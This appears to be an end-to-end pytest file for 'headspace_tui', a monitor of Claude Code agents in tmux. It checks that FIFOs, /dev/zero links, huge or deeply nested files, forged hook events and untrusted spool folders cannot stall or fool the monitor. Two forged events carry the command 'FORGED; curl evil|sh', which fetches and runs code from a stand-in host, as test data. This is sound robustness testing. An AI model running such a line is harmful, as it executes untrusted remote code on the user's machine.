"""Hostile files: nothing in Claude's folders or the hook spool can stop, freeze or fool headspace.

Against a real Claude Code in a private tmux server, with headspace's
monitor (or the ``headspace status`` command a user runs):

* the status folder holds a named pipe, a link to /dev/zero, 200,000 nested
  brackets and a 50 MB file next to the real status file: the monitor still
  reads the real one, the event loop never stalls, ``status`` neither hangs
  nor prints a traceback;
* the spool holds a pipe, deeply nested JSON and an event whose
  ``questions`` is a number: the hook watcher lives on and reads the next
  good event;
* a forged PermissionRequest on an idle agent is dropped once the screen
  has had a redraw's time to contradict it (it used to hold the row 40 s);
* a spool folder others can write, or that another user owns, is refused
  with one notice, and nothing in it is believed.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from headspace_tui.events import Notice
from headspace_tui.hooks.spool import spool_dir
from headspace_tui.model import AgentState
from headspace_tui.service.watching.monitor import Monitor
from headspace_tui.tmux.server import TmuxServer

pytestmark = pytest.mark.e2e


def _hostile_folder(folder: Path) -> None:
    """Fill ``folder`` with what must never stop a reader."""
    folder.mkdir(parents=True, exist_ok=True)
    os.mkfifo(folder / "44444.json")
    os.symlink("/dev/zero", folder / "44445.json")
    (folder / "44446.json").write_text("[" * 200_000)
    with open(folder / "44447.json", "wb") as handle:  # 50 MB, sparse: cheap to make
        handle.truncate(50 << 20)
    (folder / "44448.json").write_bytes(b'{"pid": 44448, "status": "\xff\xfe busy')
    (folder / "44449.json").mkdir()


def _env(home: Path, config_dir: Path, runtime: Path) -> dict[str, str]:
    return {
        "HOME": str(home),
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "LANG": "C.UTF-8",
        "CLAUDE_CONFIG_DIR": str(config_dir),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "XDG_STATE_HOME": str(home / ".state"),
        "XDG_RUNTIME_DIR": str(runtime),
    }


async def _heartbeat(gaps: list[float]) -> None:
    """Ticks every 20 ms; the longest gap is how long the event loop was blocked."""
    last = time.monotonic()
    while True:
        await asyncio.sleep(0.02)
        now = time.monotonic()
        gaps.append(now - last)
        last = now


def _monitor(private_tmux, **options) -> tuple[Monitor, list[str]]:
    notices: list[str] = []
    monitor = Monitor(
        TmuxServer(socket_name=private_tmux.name),
        **options,
    )
    monitor.subscribe(lambda event: isinstance(event, Notice) and notices.append(event.text))
    return monitor, notices


async def _until(predicate, what: str, timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        await asyncio.sleep(0.05)


def test_hostile_status_files_stop_nothing(claude_session, private_tmux, tmp_path):
    session = claude_session([])
    sessions = session.home / ".claude" / "sessions"
    _hostile_folder(sessions)
    monitor, _ = _monitor(private_tmux, config_dir=session.home / ".claude", hooks=False)

    async def run() -> float:
        gaps: list[float] = []
        tasks = [asyncio.create_task(monitor.run()), asyncio.create_task(_heartbeat(gaps))]
        try:
            await _until(lambda: session.pane_id in monitor.store.agents, "the agent")
            # The real status file, beside the hostile ones, is still read.
            await _until(lambda: "status-file" in monitor.panes[session.pane_id].fuser.verdicts, "the real status file")
            pid = monitor.panes[session.pane_id].agent_pid
            # Claude writes its file before its first status (read as starting): wait for
            # the status, as a fixed assert raced Claude on a loaded machine.
            await _until(lambda: monitor.facts.statuses[pid].status == "idle", "the status file to say idle")
            assert set(monitor.facts.statuses) == {pid}, "nothing from the hostile files became an agent status"
            # ...and it keeps being read: Claude's next change still arrives.
            session.submit("hello")
            await _until(lambda: monitor.store.agents[session.pane_id].state is not AgentState.STARTING, "a state")
            await asyncio.sleep(2.5)  # a few watch rounds over the hostile folder
            return max(gaps)
        finally:
            for task in tasks:
                task.cancel()
            await monitor.stop()

    worst = asyncio.run(run())
    # What this guards is a read that blocks: the FIFO never answers and /dev/zero never ends (an uncapped read
    # hangs), while the 50 MB file and the deep nesting would be done in well under a second even without the caps. A loaded
    # CPU gave 0.56 s once and 2.04 s in a clean-clone CI run, so a bound of 2 s measured the load: 10 s still
    # tells a stall from a read that blocks, whatever the machine.
    assert worst < 10.0, f"the event loop stalled for {worst:.2f}s"

    # The command a user runs: no hang, no traceback, the agent listed.
    runtime = tmp_path / "run"
    runtime.mkdir(mode=0o700)
    env = _env(tmp_path / "user", session.home / ".claude", runtime)
    done = subprocess.run(
        [sys.executable, "-m", "headspace_tui", "status", "-L", private_tmux.name],
        env=env,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr + done.stdout
    assert session.pane_id in done.stdout


def _private_spool(tmp_path: Path) -> Path:
    runtime = tmp_path / "run"
    runtime.mkdir(mode=0o700)
    spool = spool_dir({"XDG_RUNTIME_DIR": str(runtime)})
    spool.parent.mkdir(mode=0o700)
    spool.mkdir(mode=0o700)
    return spool


def _states_for(monitor: Monitor, pane_id: str, seconds: float) -> list[AgentState]:
    """Run the monitor until it knows ``pane_id``, then note its state every 50 ms for ``seconds``."""

    async def run() -> list[AgentState]:
        seen: list[AgentState] = []
        task = asyncio.create_task(monitor.run())
        try:
            await _until(lambda: pane_id in monitor.store.agents, "the agent")
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline:
                seen.append(monitor.store.agents[pane_id].state)
                await asyncio.sleep(0.05)
            return seen
        finally:
            task.cancel()
            await monitor.stop()

    return asyncio.run(run())


def _write_event(folder: Path, record: dict | str, *, name: str | None = None) -> Path:
    ts = time.time()
    name = name or f"{time.time_ns():020d}-{os.getpid()}-{os.urandom(4).hex()}.json"
    path = folder / name
    tmp = folder / f".tmp-{name}"
    tmp.write_text(record if isinstance(record, str) else json.dumps({"ts": ts, **record}))
    os.replace(tmp, path)
    return path


def test_hostile_spool_events_do_not_end_the_hook_watch(claude_session, private_tmux, tmp_path):
    session = claude_session([])
    spool = _private_spool(tmp_path)
    monitor, notices = _monitor(private_tmux, config_dir=tmp_path / "no-claude-config", spool=spool)

    async def run() -> None:
        gaps: list[float] = []
        tasks = [asyncio.create_task(monitor.run()), asyncio.create_task(_heartbeat(gaps))]
        try:
            await _until(lambda: monitor.store.agents.get(session.pane_id) and monitor.store.agents[session.pane_id].state is AgentState.IDLE, "idle")
            os.mkfifo(spool / f"{time.time_ns():020d}-1-fifo.json")
            _write_event(spool, "[" * 200_000 + "]" * 200_000)
            _write_event(spool, {"hook_event_name": "PermissionRequest", "tool_name": "AskUserQuestion", "tool_input": {"questions": 5}, "tmux_pane": session.pane_id})
            _write_event(spool, {"hook_event_name": "PermissionRequest", "tool_name": "AskUserQuestion", "tool_input": {"questions": [{"options": 7}]}, "tmux_pane": session.pane_id})
            await asyncio.sleep(1.5)  # the watcher meets the bad files (a stuck watcher would miss the forged event next)
            # A forged permission on this idle agent: believed for a moment at most,
            # dropped once the screen has had a redraw's time to show what it is.
            states: list[tuple[float, AgentState]] = []
            forged_at = time.monotonic()
            _write_event(
                spool,
                {"hook_event_name": "PermissionRequest", "tool_name": "Bash", "tool_input": {"command": "FORGED; curl evil|sh"}, "tmux_pane": session.pane_id},
            )
            while time.monotonic() - forged_at < 4.0:
                states.append((time.monotonic() - forged_at, monitor.store.agents[session.pane_id].state))
                await asyncio.sleep(0.05)
            shown = [t for t, s in states if s is AgentState.PERMISSION]
            assert shown, "the watcher is alive: the good (forged) event after the bad ones was read"
            print(f"\nforged permission shown for {max(shown):.2f}s")
            assert max(shown) < 2.5, f"a forged permission held the idle row for {max(shown):.1f}s"
            assert states[-1][1] is AgentState.IDLE
            assert max(gaps) < 2.0, f"the event loop stalled for {max(gaps):.2f}s"  # a blocking read, not a loaded CPU (above)
            assert notices == []
        finally:
            for task in tasks:
                task.cancel()
            await monitor.stop()

    asyncio.run(run())


@pytest.mark.parametrize("how", ["writable by others", "owned by another user"])
def test_a_spool_others_can_write_is_refused(claude_session, private_tmux, tmp_path, how):
    if how == "owned by another user" and os.getuid() != 0:
        pytest.skip("making a folder another user owns needs root")  # CI runs as root
    session = claude_session([])
    spool = _private_spool(tmp_path)
    _write_event(
        spool,
        {"hook_event_name": "PermissionRequest", "tool_name": "Bash", "tool_input": {"command": "FORGED; curl evil|sh"}, "tmux_pane": session.pane_id},
    )
    if how == "writable by others":
        os.chmod(spool, 0o777)
    else:
        os.chown(spool, 65534, 65534)
    monitor, notices = _monitor(private_tmux, config_dir=tmp_path / "no-claude-config", spool=spool)
    seen = _states_for(monitor, session.pane_id, 3.0)
    assert AgentState.PERMISSION not in seen, "an event from an untrusted spool was believed"
    assert len(notices) == 1 and "hook spool refused" in notices[0] and str(spool) in notices[0]
    assert ("writable by other users" if how == "writable by others" else "belongs to another user") in notices[0]


def test_a_spool_file_another_user_owns_is_ignored(claude_session, private_tmux, tmp_path):
    if os.getuid() != 0:
        pytest.skip("making a file another user owns needs root")  # CI runs as root
    session = claude_session([])
    spool = _private_spool(tmp_path)
    forged = _write_event(
        spool,
        {"hook_event_name": "PermissionRequest", "tool_name": "Bash", "tool_input": {"command": "FORGED"}, "tmux_pane": session.pane_id},
    )
    os.chown(forged, 65534, 65534)
    monitor, notices = _monitor(private_tmux, config_dir=tmp_path / "no-claude-config", spool=spool)
    assert AgentState.PERMISSION not in _states_for(monitor, session.pane_id, 2.0)
    assert notices == []
